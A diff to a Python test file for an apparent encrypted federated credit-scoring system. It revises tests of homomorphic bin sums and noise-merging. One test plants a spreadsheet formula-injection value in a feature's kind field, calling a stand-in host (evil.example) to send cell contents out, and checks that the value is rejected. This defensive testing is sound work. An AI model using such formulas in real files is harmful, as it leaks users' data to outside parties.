@@ -149,15 +149,16 @@ def test_a_bureau_features_kind_is_numeric_or_category_never_free_text():
     from xinrong.v1 import model_pb2
 
     pub, priv = he.generate_keypair(768, allow_test_keys=True)
-    sums = he.pack_sums(he.OwnerEncryptor(priv).encrypt([10, 30]), 14, he.PeerEncryptor(pub))
+    counts = he.OwnerEncryptor(priv).encrypt([10, 30, 90, 70])  # positives, then negatives
+    sums = he.pack_sums(counts, 14, he.PeerEncryptor(pub))
     feature = model_pb2.FeatureBins(
-        name="insured_employees", kind="numeric", totals=[100, 100], ordered=True,
+        name="insured_employees", kind="numeric", bins=2, ordered=True,
         missing_bin=-1, slot_bits=14, sums=he.ciphertexts_to_bytes(sums, pub),
     )  # fmt: skip
-    assert _bureau_feature(feature, priv, pub, 200, True).kind == "numeric"
+    assert _bureau_feature(feature, priv, pub, 200, 40, True).kind == "numeric"
     feature.kind = '=HYPERLINK("http://evil.example/?"&A1,"numeric")'
     with pytest.raises(ProtocolViolation, match="neither 'numeric' nor 'category'"):
-        _bureau_feature(feature, priv, pub, 200, True)
+        _bureau_feature(feature, priv, pub, 200, 40, True)
 
 
 def test_noisy_bins_are_merged_until_they_carry_more_than_the_noise():
@@ -176,11 +177,12 @@ def test_noisy_bins_are_merged_until_they_carry_more_than_the_noise():
     exact = binning.BinStatistics(totals, bads)
     truth = binning.evaluate_feature("x", "bureau", "numeric", exact, True, None).iv
     raw, merged, spreads = [], [], []
+    goods = [t - b for t, b in zip(totals, bads, strict=True)]
     for _ in range(40):
-        z = [v - binning.NOISE_BOUND for v in noise.sample(len(totals), rng.randrange)]
-        got = binning.BinStatistics(
-            totals, [min(max(b + e, 0), t) for b, e, t in zip(bads, z, totals, strict=True)]
-        )
+        # what the bank receives: positives, then negatives, each with the bureau's noise
+        z = noise.sample(len(totals), rng.randrange) + noise.sample(len(totals), rng.randrange)
+        slots = [c + e for c, e in zip(bads + goods, z, strict=True)]
+        got = binning.noisy_bins(slots, noise.offset, sum(bads), sum(totals), "x")
         raw.append(binning.evaluate_feature("x", "bureau", "numeric", got, True, None).iv)
         stats, missing = binning.merge_for_noise(got, True, None, 5 * noise.sigma)
         assert min(min(b, t - b) for b, t in zip(stats.bads, stats.totals, strict=True)) >= 20
